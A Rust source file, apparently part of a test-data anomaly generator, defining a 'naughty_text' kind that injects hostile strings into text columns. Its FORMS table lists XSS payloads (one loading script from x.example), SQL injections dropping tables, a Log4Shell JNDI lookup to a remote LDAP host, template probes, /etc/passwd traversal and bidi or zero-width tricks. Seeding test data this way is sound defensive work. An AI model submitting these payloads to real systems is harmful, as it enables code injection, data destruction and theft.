//! `naughty_text`: text that hides, turns, or wants to be run.

use crate::anomaly::Params;
use crate::anomaly::act::Act;
use crate::anomaly::columns::{self, Chosen};
use crate::anomaly::ground::{Ground, Rowset, Site};
use crate::anomaly::incident::Incident;
use crate::anomaly::kind::{Kind, Param, ParamType, Scope};
use crate::anomaly::value::Value;
use crate::schema::Type;
use crate::seed::Stream;

/// The kind.
pub(in crate::anomaly::kinds) static NAUGHTY_TEXT: Kind = Kind::new(
    "naughty_text",
    Scope::Field,
    "Writes text that turns, hides or injects.",
    "Texts keep to allowed classes of characters.",
)
.takes(&[
    Param::new(
        "columns",
        ParamType::Columns(&[
            "events.search_query",
            "events.user_agent",
            "users.first_name",
            "users.last_name",
            "users.street",
            "sessions.click_id",
            "devices.model",
        ]),
        "Which columns of text that people or their programs write.",
    ),
    Param::new(
        "how",
        ParamType::Some(&["bidi", "unseen", "control", "script", "sql", "template", "path"]),
        "The order of letters turned (U+202E); marks of no width; control characters; HTML that is run; SQL; expressions of templates and loggers; ways out of a folder.",
    ),
])
.acts(&NaughtyText);

struct NaughtyText;

/// What is written, by the way; `~` stands for the text that was there, `|` for a place within it.
const FORMS: [(&str, &[&str]); 7] = [
    ("bidi", &["\u{202e}~\u{202c}", "|\u{202d}"]),
    ("unseen", &["|\u{200b}", "|\u{200d}", "~\u{200f}", "\u{feff}~"]),
    ("control", &["|\u{7}", "\u{1b}[31m~\u{1b}[0m", "~\u{8}\u{8}"]),
    (
        "script",
        &[
            "<script>alert(1)</script>",
            "~<script src=//x.example/a.js></script>",
            "\"><a href=javascript:alert(1)>~",
        ],
    ),
    ("sql", &["~'; DROP TABLE users; --", "~' OR '1'='1", "1'; drop table orders;--"]),
    ("template", &["${jndi:ldap://198.18.0.1/a}", "{{7*7}}", "~${7*7}"]),
    ("path", &["../../../../etc/passwd", "../../~"]),
];

impl Act for NaughtyText {
    fn rows(&self, params: &Params) -> Vec<Rowset> {
        columns::rowsets(params.words("columns"))
    }

    fn inject(
        &self,
        ground: &Ground<'_>,
        site: Site,
        params: &Params,
        draw: &mut Stream,
    ) -> Option<Incident> {
        let how = params.one("how", draw);
        let Chosen { row, field, value } =
            columns::choose(ground, site, params, draw, |field, value| {
                matches!(field.ty, Type::Text | Type::Enum)
                    && field.values.is_empty()
                    && value.text().is_some_and(|text| text.chars().count() > 1)
            })?;
        let (_, forms) = FORMS.iter().find(|(name, _)| *name == how)?;
        let form = forms[draw.below(forms.len() as u32) as usize];
        let naughty = filled(form, value.text()?, draw);
        let fits = |most: u32| naughty.len() <= most as usize;
        field.bounds.max_length.is_none_or(fits).then_some(())?;
        let incident = Incident::new().set(row, &field.name, Value::Text(naughty));
        Some(incident.note("way", how).note("column", &*field.name))
    }
}

/// A form with the text that was there.
fn filled(form: &str, text: &str, draw: &mut Stream) -> String {
    let Some(mark) = form.strip_prefix('|') else { return form.replace('~', text) };
    let letters: Vec<char> = text.chars().collect();
    let at = 1 + draw.below(letters.len() as u32 - 1) as usize;
    let (start, end) = letters.split_at(at);
    start.iter().copied().chain(mark.chars()).chain(end.iter().copied()).collect()
}
